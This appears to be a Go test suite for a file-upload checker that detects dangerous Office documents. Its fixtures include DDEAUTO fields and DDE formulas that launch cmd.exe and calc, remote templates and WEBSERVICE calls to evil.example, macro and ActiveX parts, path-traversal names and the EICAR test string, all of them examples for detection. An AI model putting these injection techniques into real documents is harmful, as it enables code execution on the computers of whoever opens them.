package material

import (
	"archive/zip"
	"bytes"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"kaishu/internal/base/problem"
)

const (
	head  = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	types = `http://schemas.openxmlformats.org/package/2006/content-types`
	rels  = `http://schemas.openxmlformats.org/package/2006/relationships`
	ofx   = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	word  = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	sheet = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
)

func listed(main, media, more string) string {
	return head + `<Types xmlns="` + types + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/><Override PartName="` + main + `" ContentType="` + media + `"/>` + more + `</Types>`
}

func related(all ...string) string {
	return head + `<Relationships xmlns="` + rels + `">` + strings.Join(all, "") + `</Relationships>`
}

func relation(kind, target, more string) string {
	return `<Relationship Id="r` + fmt.Sprint(len(kind)+len(target)) + `" Type="` + ofx + kind + `" Target="` + target + `" ` + more + `/>`
}

// parts are what a document is made of, by name.
type parts map[string]string

func letter() parts {
	return parts{
		"[Content_Types].xml": listed("/word/document.xml", DOCX+".main+xml", ""),
		"_rels/.rels":         related(relation("officeDocument", "word/document.xml", "")),
		"word/document.xml":   head + `<w:document ` + word + `><w:body><w:p><w:r><w:t>申请书 A|B</w:t></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": related(relation("hyperlink", "https://data.sh.gov.cn/", `TargetMode="External"`),
			relation("image", "media/image1.png", "")),
	}
}

func book() parts {
	return parts{
		"[Content_Types].xml":      listed("/xl/workbook.xml", XLSX+".main+xml", ""),
		"_rels/.rels":              related(relation("officeDocument", "/xl/workbook.xml", "")),
		"xl/workbook.xml":          head + `<workbook ` + sheet + `><definedNames><definedName name="x">Sheet1!$A$1</definedName></definedNames></workbook>`,
		"xl/worksheets/sheet1.xml": head + `<worksheet ` + sheet + `><sheetData><row r="1"><c r="A1"><f>IF(B1="a|b","=cmd|x",2)</f><v>2</v></c></row></sheetData></worksheet>`,
	}
}

// with is p with one part more, or other.
func (p parts) with(name, text string) parts {
	p = maps.Clone(p)
	p[name] = text
	return p
}

// say is p with words of the main document replaced.
func (p parts) say(old, by string) parts {
	p = maps.Clone(p)
	for name, text := range p {
		p[name] = strings.ReplaceAll(text, old, by)
	}
	return p
}

// packed writes p as archive/zip does, the list of types first.
func (p parts) packed(t testing.TB, method uint16) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	names := slices.Sorted(maps.Keys(p))
	slices.SortStableFunc(names, func(a, _ string) int {
		if a == "[Content_Types].xml" {
			return -1
		}
		return 0
	})
	for _, name := range names {
		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(p[name]))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func verdict(data []byte) string {
	media, err := Check(data)
	if err != nil {
		return problem.As(err).Fields[0].Code
	}
	return media
}

func deck() parts {
	return parts{
		"[Content_Types].xml":  listed("/ppt/presentation.xml", PPTX+".main+xml", ""),
		"_rels/.rels":          related(relation("officeDocument", "ppt/presentation.xml", "")),
		"ppt/presentation.xml": head + `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
	}
}

func field(pieces ...string) string {
	text := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, p := range pieces {
		if !strings.HasPrefix(p, "<") {
			p = `<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`
		}
		text += p
	}
	return text + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func TestOfficeDocumentsAreTaken(t *testing.T) {
	made := excelize.NewFile()
	made.SetCellValue("Sheet1", "A1", "a|b")
	made.SetCellFormula("Sheet1", "B1", `SUM(A1:A3)&"|"`)
	made.SetCellHyperLink("Sheet1", "A1", "https://data.sh.gov.cn/", "External")
	if err := made.AddComment("Sheet1", excelize.Comment{Cell: "A1", Author: "a", Text: "b"}); err != nil { // with VML
		t.Fatal(err)
	}
	var written bytes.Buffer
	if err := made.Write(&written); err != nil {
		t.Fatal(err)
	}
	pngFile, _ := pictures(t)
	for name, tt := range map[string]struct {
		data []byte
		want string
	}{
		"a letter":                        {letter().packed(t, zip.Deflate), DOCX},
		"stored":                          {letter().packed(t, zip.Store), DOCX},
		"with a picture":                  {letter().with("word/media/image1.png", string(pngFile)).packed(t, zip.Deflate), DOCX},
		"with a number of pages":          {letter().say("申请书", "</w:t></w:r>"+field(" PAGE ")+field(" HYPERLINK \"x\" ")+field(" QUOTE x ")+field(` INCLUDEPICTURE "C:\\a.png" \* MERGEFORMATINET `)+"<w:r><w:t>").packed(t, zip.Deflate), DOCX},
		"with settings of a printer":      {book().with("xl/printerSettings/printerSettings1.bin", "\x01\x00").packed(t, zip.Deflate), XLSX},
		"with a lost picture":             {letter().with("word/_rels/document.xml.rels", related(relation("image", "NULL", `TargetMode="External"`))).packed(t, zip.Deflate), DOCX},
		"with the main type by ending":    {letter().with("[Content_Types].xml", head+`<Types xmlns="`+types+`"><Default Extension="xml" ContentType="`+DOCX+`.main+xml"/></Types>`).packed(t, zip.Deflate), DOCX},
		"that lists what it has not":      {letter().say(`<Default Extension="xml"`, `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"`).packed(t, zip.Deflate), DOCX},
		"a book":                          {book().packed(t, zip.Deflate), XLSX},
		"slides":                          {deck().packed(t, zip.Deflate), PPTX},
		"a book by another program":       {written.Bytes(), XLSX},
		"folders and a name in Chinese":   {letter().with("word/", "").with("customXml/材料.xml", "<a/>").packed(t, zip.Store), DOCX},
		"with a byte order mark, no head": {letter().with("docProps/app.xml", "\xef\xbb\xbf<a/>").packed(t, zip.Deflate), DOCX},
	} {
		if got := verdict(tt.data); got != tt.want {
			t.Errorf("%s: %s, want %s", name, got, tt.want)
		}
	}
}

func TestDocumentsThatActAreRefused(t *testing.T) {
	inWord := func(xml string) parts { return letter().say("申请书", "</w:t></w:r>"+xml+"<w:r><w:t>") }
	formula := func(f string) parts { return book().say(`IF(B1="a|b","=cmd|x",2)`, f) }
	outside := func(kind, target string) parts {
		return letter().with("word/_rels/settings.xml.rels", related(relation(kind, target, `TargetMode="External"`)))
	}
	other := archive(t)
	for name, tt := range map[string]struct {
		doc  parts
		want string
	}{
		"macros":                         {letter().with("word/vbaProject.bin", oleMark), "material.office_macros"},
		"macros by another name":         {letter().with("word/x.xml", "<a/>").with("word/_rels/document.xml.rels", related(`<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.xml"/>`)), "material.office_macros"},
		"macros by type":                 {letter().say(DOCX+".main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), "material.office_macros"},
		"a book with macros":             {book().say(XLSX+".main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "material.office_macros"},
		"macros of the fourth edition":   {book().with("xl/macrosheets/sheet1.xml", "<a/>"), "material.office_macros"},
		"the same by type":               {book().with("[Content_Types].xml", listed("/xl/workbook.xml", XLSX+".main+xml", `<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`)), "material.office_macros"},
		"macros of WPS":                  {letter().with("word/JDEData.bin", "x"), "material.office_macros"},
		"an object":                      {letter().with("word/embeddings/oleObject1.bin", "x"), "material.office_inside"},
		"an object by type":              {letter().with("word/a.png", "x").with("[Content_Types].xml", listed("/word/document.xml", DOCX+".main+xml", `<Default Extension="PNG" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`)), "material.office_inside"},
		"an object by type of its part":  {letter().with("[Content_Types].xml", listed("/word/document.xml", DOCX+".main+xml", `<Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`)), "material.office_inside"},
		"a program called a picture":     {letter().with("word/media/a.png", "MZ\x90"), "material.office_inside"},
		"a program":                      {letter().with("word/a.exe", "x"), "material.office_inside"},
		"a page":                         {letter().with("word/a.html", "<p>"), "material.office_inside"},
		"an archive":                     {letter().with("word/media/a.png", string(other)), "material.office_inside"},
		"a book in a letter":             {letter().with("word/embeddings/a.xlsx", string(book().packed(t, zip.Deflate))), "material.office_inside"},
		"a PDF":                          {letter().with("word/media/a.png", string(pdf(""))), "material.office_inside"},
		"ActiveX":                        {letter().with("word/_rels/document.xml.rels", related(relation("control", "activeX1.xml", ""))), "material.office_inside"},
		"a page by relation":             {letter().with("word/_rels/document.xml.rels", related(relation("aFChunk", "a.xml", ""))), "material.office_inside"},
		"a template elsewhere":           {outside("attachedTemplate", "https://evil.example/a.dotm"), "material.office_fetches"},
		"a template on a share":          {outside("attachedTemplate", `\\evil\a.dotm`), "material.office_fetches"},
		"an object elsewhere":            {outside("oleObject", "mhtml:https://evil.example/a!x"), "material.office_fetches"},
		"a picture elsewhere":            {outside("image", "https://evil.example/a.png"), "material.office_fetches"},
		"a picture beside the letter":    {outside("image", "pic/a.png"), "material.office_fetches"},
		"a zero":                         {letter().with("word/a.xml", "<a/>\x00"), "material.office_hidden"},
		"elsewhere without saying":       {letter().with("word/_rels/document.xml.rels", related(relation("image", "https://evil.example/a.png", ""))), "material.office_fetches"},
		"a share without saying":         {letter().with("word/_rels/document.xml.rels", related(relation("image", "//evil/a.png", ""))), "material.office_fetches"},
		"another book elsewhere":         {book().with("xl/_rels/workbook.xml.rels", related(relation("externalLink", "externalLinks/externalLink1.xml", ""))), "material.office_fetches"},
		"data from elsewhere":            {book().with("xl/_rels/workbook.xml.rels", related(relation("connections", "connections.xml", ""))), "material.office_fetches"},
		"DDEAUTO":                        {inWord(field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `)), "material.office_fields"},
		"DDE in small letters":           {inWord(field("dde cmd")), "material.office_fields"},
		"DDEAUTO in pieces":              {inWord(field("D", "DE", "AU", "TO cmd")), "material.office_fields"},
		"DDEAUTO behind spaces":          {inWord(field(strings.Repeat(" ", 2000), "DDEAUTO cmd")), "material.office_fields"},
		"DDEAUTO by numbers":             {inWord(field("&#68;&#x44;EAUTO cmd")), "material.office_fields"},
		"DDEAUTO in a short field":       {inWord(`<w:fldSimple w:instr=" DDEAUTO cmd "/>`), "material.office_fields"},
		"DDEAUTO inside another":         {inWord(field("IF 1=1 ", field("DDEAUTO cmd"))), "material.office_fields"},
		"letters by number":              {inWord(field(field("QUOTE 68 68 69"), " cmd")), "material.office_fields"},
		"an object linked by a field":    {inWord(field("LINK Excel.Sheet a.xlsx")), "material.office_fields"},
		"DDE without a beginning":        {inWord(`<w:r><w:instrText>DDE cmd</w:instrText></w:r>`), "material.office_fields"},
		"DDE in another prefix":          {letter().say(`xmlns:w=`, `xmlns:q=`).say("<w:", "<q:").say("</w:", "</q:").say("申请书", `</q:t></q:r><q:fldSimple q:instr="DDE x"/><q:r><q:t>`), "material.office_fields"},
		"DDE in a header":                {letter().with("word/header1.xml", head+`<w:hdr `+word+`>`+field("DDEAUTO x")+`</w:hdr>`), "material.office_fields"},
		"a formula that calls":           {formula(`cmd|'/c calc'!A1`), "material.office_fields"},
		"by number":                      {formula(`cmd&#124;'/c calc'!A1`), "material.office_fields"},
		"in pieces":                      {formula(`"cmd` + `<![CDATA[" & x|]]>` + `'/c calc'!A1`), "material.office_fields"},
		"in quotes":                      {formula(`'cmd|/c calc'!A1`), "material.office_fields"},
		"in a name":                      {book().say("Sheet1!$A$1", "cmd|'/c calc'!A1"), "material.office_fields"},
		"in another prefix":              {book().with("xl/worksheets/sheet1.xml", `<x:worksheet xmlns:x="y"><x:f>cmd|'/c'!A1</x:f></x:worksheet>`), "material.office_fields"},
		"in a rule of format":            {book().with("xl/worksheets/sheet1.xml", `<worksheet><formula1>cmd|'/c'!A1</formula1></worksheet>`), "material.office_fields"},
		"a formula that fetches":         {formula(`_xlfn.WEBSERVICE("https://evil.example")`), "material.office_fields"},
		"slides that start a program":    {deck().with("ppt/slides/slide1.xml", `<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkHover action="ppaction://&#112;rogram"/></p:sld>`), "material.office_fields"},
		"words of its own":               {letter().with("word/a.xml", `<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`), "material.office_hidden"},
		"in the list":                    {letter().say("<Types", "<!DOCTYPE a><Types"), "material.office_hidden"},
		"in the relations":               {letter().say("<Relationships", "<!DOCTYPE a><Relationships"), "material.office_hidden"},
		"other letters":                  {letter().with("word/a.xml", "\xff\xfe<\x00a\x00/\x00>\x00"), "material.office_hidden"},
		"letters of no kind":             {letter().with("word/a.xml", "<a>\xc7\xeb</a>"), "material.office_hidden"},
		"declared other letters":         {letter().with("word/a.xml", `<?xml version="1.0" encoding="UTF-7"?><a/>`), "material.office_hidden"},
		"no main part":                   {parts{"[Content_Types].xml": letter()["[Content_Types].xml"], "_rels/.rels": related()}, "material.broken"},
		"a main part that is not there":  {letter().say("word/document.xml", "word/other.xml").with("_rels/.rels", related(relation("officeDocument", "word/nothing.xml", ""))), "material.broken"},
		"two main parts":                 {letter().with("_rels/.rels", related(relation("officeDocument", "word/document.xml", ""), relation("officeDocument", "word/b.xml", ""))), "material.broken"},
		"relations that are torn":        {letter().say("</Relationships>", ""), "material.broken"},
		"a template":                     {letter().say("document.main+xml", "template.main+xml"), "material.other_type"},
		"a drawing":                      {letter().say(DOCX+".main+xml", "application/vnd.ms-visio.drawing.main+xml"), "material.other_type"},
		"no document":                    {parts{"a.xml": "<a/>"}, "material.archive"},
		"a text of another house":        {parts{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, "material.other_type"},
		"an archive with a letter in it": {parts{"a.docx": string(letter().packed(t, zip.Deflate))}, "material.archive"},
		"a path that climbs":             {letter().with("../a.xml", "<a/>"), "material.office_odd"},
		"a path from the root":           {letter().with("/a.xml", "<a/>"), "material.office_odd"},
		"a path of another system":       {letter().with(`word\a.xml`, "<a/>"), "material.office_odd"},
		"a name twice":                   {letter().with("Word/Document.xml", "<a/>"), "material.office_odd"},
		"a name that is a page":          {letter().with("<script>", "<a/>"), "material.office_odd"},
		"that unfolds for ever":          {letter().with("word/a.xml", strings.Repeat(" ", 80<<20)), "material.office_too_deep"},
	} {
		for _, method := range []uint16{zip.Store, zip.Deflate} {
			data := tt.doc.packed(t, method)
			if len(data) > MaxBytes {
				continue
			}
			if got := verdict(data); got != tt.want {
				t.Errorf("%s, method %d: %s, want %s", name, method, got, tt.want)
			}
		}
	}
}

func TestTheTestVirusIsFound(t *testing.T) {
	virus := string(eicar)
	zipped := func(name, text string, method uint16) []byte { return parts{name: text}.packed(t, method) }
	pngFile, _ := pictures(t)
	for name, data := range map[string][]byte{
		"bare":                            eicar,
		"with a line":                     []byte(virus + "\r\n"),
		"zipped":                          zipped("eicar.com", virus, zip.Store),
		"zipped and folded":               zipped("eicar.com", virus, zip.Deflate),
		"zipped twice":                    zipped("a.zip", string(zipped("eicar.com", virus, zip.Deflate)), zip.Deflate),
		"zipped with bytes before it":     join([]byte("MZ"), zipped("eicar.com", virus, zip.Deflate)),
		"in a book":                       book().with("xl/media/a.png", virus).packed(t, zip.Store),
		"in a book, folded":               book().with("xl/media/a.png", virus).packed(t, zip.Deflate),
		"in a book as text":               book().with("xl/sharedStrings.xml", "<a>"+virus+"</a>").packed(t, zip.Deflate),
		"in an archive in a book":         book().with("xl/media/a.png", string(zipped("eicar.com", virus, zip.Deflate))).packed(t, zip.Deflate),
		"behind other faults of a letter": letter().with("../x", "").with("word/z.bin", virus).packed(t, zip.Deflate),
		"in a PDF":                        stream("", virus),
		"in a folded stream":              stream("/Filter/FlateDecode", folded("x"+virus)),
		"far inside a folded stream":      stream("/Filter/FlateDecode", folded(strings.Repeat("x", 64<<10)+virus)),
		"behind a picture":                join(pngFile, eicar),
		"in an archive behind a picture":  join(pngFile, zipped("eicar.com", virus, zip.Deflate)),
		"in the old form":                 []byte(oleMark + virus),
	} {
		if got := verdict(data); got != "material.malware" {
			t.Errorf("%s: %s", name, got)
		}
	}
	for at := 64<<10 - 80; at < 64<<10+160; at++ { // wherever a stream is cut to be searched
		if got := verdict(stream("/Filter/FlateDecode", folded(strings.Repeat("x", at)+virus+strings.Repeat("x", 100_000)))); got != "material.malware" {
			t.Errorf("at %d: %s", at, got)
		}
	}
}

func TestOtherFormsAreToldByName(t *testing.T) {
	wide := func(s string) (b []byte) {
		for _, c := range []byte(s) {
			b = append(b, c, 0)
		}
		return b
	}
	tape := make([]byte, 1024)
	copy(tape[257:], "ustar")
	for name, tt := range map[string]struct {
		data []byte
		want string
	}{
		"Word of 2003":      {join([]byte(oleMark), make([]byte, 504), wide("WordDocument")), "material.office_old"},
		"with a password":   {join([]byte(oleMark), make([]byte, 504), wide("EncryptedPackage")), "material.office_locked"},
		"RAR":               {[]byte("Rar!\x1a\x07\x01\x00"), "material.archive"},
		"7z":                {[]byte("7z\xbc\xaf\x27\x1c"), "material.archive"},
		"gzip":              {[]byte("\x1f\x8b\x08"), "material.archive"},
		"tar":               {tape, "material.archive"},
		"an empty archive":  {parts{}.packed(t, zip.Store), "material.archive"},
		"ZIP by name only":  {[]byte(zipMark), "material.archive"},
		"OOXML by its name": {[]byte(zipMark + "[Content_Types].xml"), "material.cut_off"},
	} {
		if got := verdict(tt.data); got != tt.want {
			t.Errorf("%s: %s, want %s", name, got, tt.want)
		}
	}
}

func FuzzOffice(f *testing.F) {
	for _, p := range []parts{letter(), book(), deck(), letter().say("申请书", "</w:t></w:r>"+field("PAGE")+"<w:r><w:t>")} {
		f.Add(p.packed(f, zip.Store))
		f.Add(p.packed(f, zip.Deflate))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		media, code := checkOffice(data)
		if (media == "") == (code == "") {
			t.Fatalf("%q, %q", media, code)
		}
		if code != "" {
			return
		}
		r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil || r.Comment != "" {
			t.Fatalf("taken, and another reader says %v", err)
		}
		for _, e := range r.File {
			if strings.Contains(strings.ToLower(e.Name), "vbaproject") {
				t.Fatal("taken with macros")
			}
		}
	})
}
